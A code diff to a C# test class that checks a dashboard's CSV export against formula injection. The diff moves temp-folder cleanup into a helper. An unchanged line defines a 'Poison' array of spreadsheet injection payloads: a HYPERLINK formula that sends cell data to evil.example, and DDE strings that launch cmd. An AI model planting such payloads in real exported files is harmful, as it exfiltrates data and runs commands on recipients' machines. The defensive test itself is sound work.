@@ -4,6 +4,7 @@ using CsvHelper.Configuration;
 using ModScope.Ingest;
 using ModScope.Store;
 using ModScope.Synthetic;
+using ModScope.Tests.Support;
 
 namespace ModScope.Web.Tests;
 
@@ -17,15 +18,15 @@ public sealed class CsvExportTests : IAsyncLifetime
 {
     private static readonly string[] Poison = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"];
 
-    private readonly string _folder = Path.Combine(Path.GetTempPath(), "modscope-web-csv", Guid.NewGuid().ToString("N"));
+    private readonly TempFolder _folder = new("modscope-web-csv-");
     private DashboardFactory? _factory;
 
     public async Task InitializeAsync()
     {
-        var data = Path.Combine(_folder, "data");
+        var data = _folder.Sub("data");
         await SyntheticGenerator.GenerateAsync(new GeneratorOptions(data, Days: 2, DecisionsPerDay: 400, Seed: 5, Incidents: false));
         Poisoned(Directory.GetFiles(data, "decisions-*.csv").Order(StringComparer.Ordinal).Last());
-        var path = Path.Combine(_folder, "store.duckdb");
+        var path = _folder.Sub("store.duckdb");
         using (var store = ModScopeStore.Open(path))
         {
             await new Ingestor(store).IngestAsync([data], new IngestOptions());
@@ -110,14 +111,7 @@ public sealed class CsvExportTests : IAsyncLifetime
     public Task DisposeAsync()
     {
         _factory?.Dispose();
-        try
-        {
-            Directory.Delete(_folder, recursive: true);
-        }
-        catch (IOException)
-        {
-            // A file still mapped by DuckDB; the temp folder is cleaned by the OS.
-        }
+        _folder.Dispose();
         return Task.CompletedTask;
     }
 }
